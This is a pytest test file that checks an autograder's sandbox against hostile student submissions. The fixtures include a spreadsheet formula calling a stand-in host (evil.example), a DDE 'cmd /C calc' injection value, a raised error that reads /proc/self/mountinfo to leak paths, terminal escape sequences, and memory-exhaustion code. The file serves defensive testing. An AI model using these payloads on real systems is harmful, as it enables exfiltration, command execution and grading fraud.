"""A class of hostile students against ``gpumemlab grade`` (one grading run, two workers).

Every attack in tests/fixtures/classroom/attacks.py, plus hostile folder names, links, FIFOs and
spreadsheet formulas, is one submission of the fixture lab. Each must get no point it does not
deserve, and the teacher's folder, the other submissions (an honest "victim" among them), a
gradebook beside the course and a canary folder must be byte-for-byte unchanged afterwards.
"""
import csv
import hashlib
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

nbformat = pytest.importorskip("nbformat")
TESTS = Path(__file__).resolve().parents[1]
import attacks as A  # noqa: E402
import make_submissions as M  # noqa: E402

from gpumemlab.classroom import isolation  # noqa: E402
from gpumemlab.classroom.build import student_version  # noqa: E402
from gpumemlab.cli import main  # noqa: E402

pytestmark = pytest.mark.skipif(
    isolation.unavailable_reason() is not None,
    reason=f"no OS sandbox here ({isolation.unavailable_reason()}); .ci/run installs bubblewrap")

# judged functions whose error is hostile feedback text (frag-test: 2 points, judged outside
# after an inside check that only asks for a callable)
RAISING = {
    "0_surrogate": "raise ValueError('\\ud800')",   # sorted first: it once stopped the rest
    "0_escapes": "raise ValueError('\\x1b[2J\\x1b[1A\\x1b[2K[PASS] frag-test')",
    "mountinfo_leak": "raise ValueError(' '.join(f.split()[3] + '>' + f.split()[4] for f in "
                      "open('/proc/self/mountinfo') if 'gml-' in f or '.venv' in f or 'pyenv' "
                      "in f))",
}
ODD = {"csv_formula": "=HYPERLINK(\"evil.example?x=\"&A1)", "odd_plus": "+2+3",
       "odd_at": "@SUM(1)", "odd_newline": "a\nb", "odd_rtl": "\u202eevil"}
BYTES_NAME = os.fsdecode(b"odd\xff\xfebytes")


def tree_hash(folder: Path) -> str:
    """Names (as bytes), kinds, modes and contents of everything under folder."""
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in os.walk(os.fsencode(folder)):
        dirnames.sort()
        for name in sorted(dirnames + filenames):
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            h.update(p + b"\0" + str(stat.S_IFMT(st.st_mode) | stat.S_IMODE(st.st_mode)).encode())
            if stat.S_ISREG(st.st_mode):
                with open(p, "rb") as f:
                    h.update(f.read())
            elif stat.S_ISLNK(st.st_mode):
                h.update(os.readlink(p))
    return h.hexdigest()


def write_nb(folder: Path, nb):
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(folder / "lab.ipynb"))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    course, canary, out = tmp / "course", tmp / "canary", tmp / "out"
    teacher, subs = course / "teacher", course / "submitted"
    teacher.mkdir(parents=True)
    canary.mkdir()
    (canary / "keep.txt").write_text("canary")
    source = teacher / "lab.ipynb"
    source.write_bytes(M.SOURCE.read_bytes())
    (course / "gradebook.db").write_bytes(b"")
    student = student_version(nbformat.read(str(source), as_version=4))
    answers = {"RIGHT": M.RIGHT, "WRONG": M.WRONG,
               "NONE": {gid: "pass" for gid in M.RIGHT}}
    paths = {"source": str(source), "victim": str(subs / "victim" / "lab.ipynb"),
             "teacher": str(teacher), "out": str(out), "gradebook": str(course / "gradebook.db"),
             "canary": str(canary)}
    table = A.attacks(paths)
    for name, (kind, cell, _) in table.items():
        nb = M.answered(student, answers[kind])
        nb.cells.insert(0, nbformat.v4.new_code_cell(A.wrap(cell)))
        write_nb(subs / name, nb)
    for name, body in RAISING.items():
        write_nb(subs / name, M.answered(student, {
            **M.RIGHT, "frag-answer": "def fragmentation(snapshot):\n    " + body}))
    # one cell with 60,000 outputs of an unknown type: invalid for nbformat, costly to validate
    bomb = json.loads(nbformat.writes(M.answered(student, M.RIGHT)))
    bomb["cells"][0]["outputs"] = [{"output_type": "weird", "n": i} for i in range(60_000)]
    (subs / "outputs_bomb").mkdir()
    (subs / "outputs_bomb" / "lab.ipynb").write_text(json.dumps(bomb))
    write_nb(subs / "victim", M.answered(student, M.RIGHT))
    write_nb(subs / "right", M.answered(student, M.RIGHT))
    write_nb(subs / "wrong", M.answered(student, M.WRONG))
    for name in ODD.values():
        (subs / name).mkdir()
        (subs / name / "timestamp.txt").write_text("=cmd|' /C calc'!A0")
    write_nb(subs / BYTES_NAME, M.answered(student, M.RIGHT))
    # intake attacks: links to the teacher's solutions, a FIFO notebook, a bottomless one
    (subs / "link_notebook").mkdir()
    (subs / "link_notebook" / "lab.ipynb").symlink_to(source)
    (subs / "link_folder").mkdir()
    (subs / "link_folder" / "work").symlink_to(teacher, target_is_directory=True)
    (subs / "fifo_notebook").mkdir()
    os.mkfifo(subs / "fifo_notebook" / "lab.ipynb")
    (subs / "deep_notebook").mkdir()
    (subs / "deep_notebook" / "lab.ipynb").write_text("[" * 200000)
    write_nb(subs / "fifo_timestamp", M.answered(student, M.RIGHT))
    os.mkfifo(subs / "fifo_timestamp" / "timestamp.txt")
    before = {"course": tree_hash(course), "canary": tree_hash(canary)}
    status = main(["grade", str(subs), "--source", str(source), "--out", str(out / "grades.csv"),
                   "--cell-timeout", "20", "--timeout", "150", "--workers", "2",
                   "--memory-mb", "3072"])
    after = {"course": tree_hash(course), "canary": tree_hash(canary)}
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    return {"status": status, "rows": rows, "table": table, "before": before, "after": after,
            "out": out}


def row(graded, display):
    hits = [r for r in graded["rows"] if r["student_id"] == display]
    assert len(hits) == 1, (display, [r["student_id"] for r in graded["rows"]])
    return hits[0]


def test_the_run_finishes_with_a_row_for_every_submission(graded):
    assert graded["status"] == 0
    assert len(graded["rows"]) == len(graded["table"]) + 3 + len(ODD) + 1 + 5 + len(RAISING) + 1


def test_honest_submissions_score_as_before(graded):
    assert float(row(graded, "right")["score"]) == 5
    assert float(row(graded, "wrong")["score"]) == 0
    assert float(row(graded, "victim")["score"]) == 5   # attacked by others, unharmed


@pytest.mark.parametrize("name", sorted(A.attacks({k: "/x" for k in (
    "source", "victim", "teacher", "out", "gradebook", "canary")})))
def test_no_attack_earns_an_undeserved_point(graded, name):
    deserved = graded["table"][name][2]
    score = float(row(graded, name)["score"])
    if deserved is None:   # the fork bomb may cost its own points, never earn any
        assert score <= 5
    else:
        assert score == deserved, (name, score)


def test_the_course_the_canary_and_the_host_tmp_are_unchanged(graded):
    assert graded["after"] == graded["before"]
    for leftover in ("/tmp/gml-hostile-fifo", "/tmp/gml-hostile-ctypes", "/tmp/gml-hostile-spawn"):
        assert not os.path.lexists(leftover)
    out = graded["out"]
    assert not (out / "pwned.txt").exists()
    forged = json.loads((out / "feedback" / "fs_forge_feedback" / "results.json").read_text())
    assert forged["score"] == 0 and "tests" in forged


def test_links_fifos_and_bottomless_files_are_not_read(graded):
    for name in ("link_notebook", "link_folder", "fifo_notebook", "deep_notebook"):
        assert float(row(graded, name)["score"]) == 0
    assert float(row(graded, "fifo_timestamp")["score"]) == 5
    assert row(graded, "fifo_timestamp")["timestamp"] == ""
    text = (graded["out"] / "feedback" / "link_notebook" / "feedback.txt").read_text()
    assert "no notebook found" in text


def test_csv_cells_are_never_formulas_and_odd_names_are_written_safely(graded):
    for r in graded["rows"]:
        for key, value in r.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (key, value)
    formula = row(graded, "'" + ODD["csv_formula"])
    assert formula["timestamp"] == "'=cmd|' /C calc'!A0"
    odd = row(graded, "odd\\xff\\xfebytes")
    assert float(odd["score"]) == 5
    folders = sorted(p.name for p in (graded["out"] / "feedback").iterdir())
    assert len(folders) == len(graded["rows"])   # one per student: no two names collide
    assert all(n.isascii() and "/" not in n and not n.startswith(".") for n in folders)


def test_feedback_shows_no_teacher_path_or_hidden_test(graded):
    tmp = str(graded["out"].parent)
    for path in (graded["out"] / "feedback").rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            assert tmp not in text and "/tmp/gml-" not in text, path
            assert "assert_correct" not in text and "BEGIN HIDDEN" not in text, path
            for root in isolation.python_roots():   # the virtual environment, the interpreter
                assert root not in text, (path, root)
            assert "gml-kit-" not in text and "gml-grade-" not in text, path


def test_hostile_error_text_is_cleaned_and_stops_no_one(graded):
    feedback = graded["out"] / "feedback"
    for name in RAISING:
        assert float(row(graded, name)["score"]) == 3   # only frag-test fails
        text = (feedback / name / "feedback.txt").read_text(encoding="utf-8")
        assert "[FAIL] frag-test" in text
        assert "\x1b" not in text and "\ud800" not in text
    assert "\\ud800" in (feedback / "0_surrogate" / "feedback.txt").read_text(encoding="utf-8")
    assert "\\x1b[2J" in (feedback / "0_escapes" / "feedback.txt").read_text(encoding="utf-8")
    assert "<python>" in (feedback / "mountinfo_leak" / "feedback.txt").read_text()


def test_a_notebook_full_of_unknown_outputs_is_graded_on_its_cells(graded):
    assert float(row(graded, "outputs_bomb")["score"]) == 5


def test_memfd_and_shared_memory_are_denied_and_tmpfs_is_sized(tmp_path):
    code = """
import os
try:
    fd = os.memfd_create('hold')
    for _ in range(1152):                 # 1,152 MiB that no rlimit counts
        os.write(fd, b'x' * (1 << 20))
    print('memfd held 1152 MiB')
except OSError as exc:
    print('memfd refused', exc.errno)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print('shmget', libc.shmget(0, 1 << 20, 0o1000 | 0o600), ctypes.get_errno())
try:
    with open('/dev/shm/fill', 'wb') as f:
        for _ in range(128):
            f.write(b'x' * (1 << 20))
    print('shm took 128 MiB')
except OSError as exc:
    print('shm full', exc.errno)
"""
    home, io, kit = (tmp_path / n for n in ("home", "io", "kit"))
    for d in (home, io, kit):
        d.mkdir()
        os.chmod(d, 0o755)
    argv, fds, cleanup = isolation.sandboxed_command(home, io, kit, [sys.executable, "-c", code],
                                                     memory_bytes=1 << 30)
    try:
        out = subprocess.run(argv, pass_fds=fds, capture_output=True, text=True, timeout=120)
    finally:
        cleanup()
    assert out.stdout.split("\n")[:3] == ["memfd refused 1", "shmget -1 1", "shm full 28"], \
        out.stdout + out.stderr
